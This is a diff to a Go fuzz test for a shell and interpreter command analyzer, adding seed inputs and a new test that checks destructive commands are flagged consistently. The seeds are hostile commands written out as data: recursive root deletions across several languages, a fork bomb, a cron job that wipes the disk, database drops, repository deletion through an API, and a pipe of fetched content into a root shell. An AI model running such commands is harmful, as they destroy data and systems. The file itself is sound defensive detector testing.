@@ -13,6 +13,12 @@ func FuzzShellAnalyze(f *testing.F) {
 		"echo / | xargs -I{} rm -rf {}", `find / -exec rm -rf {} \;`, ":(){ :|:& };:",
 		"psql -c 'DROP TABLE t'", "kubectl exec p -- sh -c 'rm -rf /data'", "X=rm; ${X:-rm} -rf /",
 		`$'\x72\x6d' -rf {/,/etc}`, "cat <<EOF | sh\nrm -rf /\nEOF", "curl -s x | sudo bash",
+		`python3 -c "import shutil; shutil.rmtree('/')"`, `node -e 'require("fs").rmSync("/", {recursive: true})'`,
+		`perl -e 'system("rm -rf /")'`, `awk 'BEGIN{system("rm -rf /")}'`, "git -c alias.x='!rm -rf /' x",
+		"gh api -X DELETE repos/o/r -F force=true", "curl -X DELETE https://api.github.com/repos/o/r -d '{}'",
+		"(crontab -l; echo '* * * * * rm -rf /') | crontab -", "parallel 'rm -rf {}' ::: / /home",
+		`powershell -Command "Remove-Item -Recurse C:\"`, "docker compose -f x.yml down -v",
+		`mongosh --eval 'db.dropDatabase()'`, "tmux send-keys 'rm -rf /' Enter",
 	} {
 		f.Add(s)
 	}
@@ -29,8 +35,43 @@ func FuzzShellAnalyze(f *testing.F) {
 				t.Fatalf("command without argv: %+v", c)
 			}
 		}
+		if len(r.HTTP) > maxHTTPRequests {
+			t.Fatalf("%d HTTP requests, over the %d limit", len(r.HTTP), maxHTTPRequests)
+		}
 		_ = r.Map()
 		_ = AnalyzeArgv(strings.Fields(src))
+	})
+}
+
+// FuzzInterpreterCode feeds untrusted one-liners to the interpreter lexer and call judge of every
+// language: no panic, bounded tokens, and the Result stays consistent.
+func FuzzInterpreterCode(f *testing.F) {
+	for _, s := range []string{
+		`import shutil; shutil.rmtree("/")`, `os.system(f"rm -rf {p}")`, `require('child_process').execSync(` + "`rm -rf ${h}`" + `)`,
+		`system "rm -rf /"; qx{ls}`, `FileUtils.rm_rf(["/a", "/b"])`, `%x(rm -rf /)`, `"""unterminated`, `exec(exec(exec("x")))`,
+	} {
+		f.Add(s, uint8(0))
+	}
+	langs := []string{"python", "perl", "ruby", "node", "php", "lua", "awk"}
+	progs := []string{"python3", "perl", "ruby", "node", "php", "lua", "awk"}
+	f.Fuzz(func(t *testing.T, code string, which uint8) {
+		i := int(which) % len(langs)
+		if toks := lexCode(langs[i], code); len(toks) > maxCodeTokens {
+			t.Fatalf("%d tokens, over the %d limit", len(toks), maxCodeTokens)
+		}
+		argv := []string{progs[i], "-e", code}
+		switch langs[i] {
+		case "python":
+			argv[1] = "-c"
+		case "php":
+			argv[1] = "-r"
+		case "awk":
+			argv = []string{"awk", code}
+		}
+		r := AnalyzeArgv(argv)
+		if r.Destructive != (len(r.Reasons) > 0) {
+			t.Fatalf("destructive=%v with reasons %q", r.Destructive, r.Reasons)
+		}
 	})
 }
 
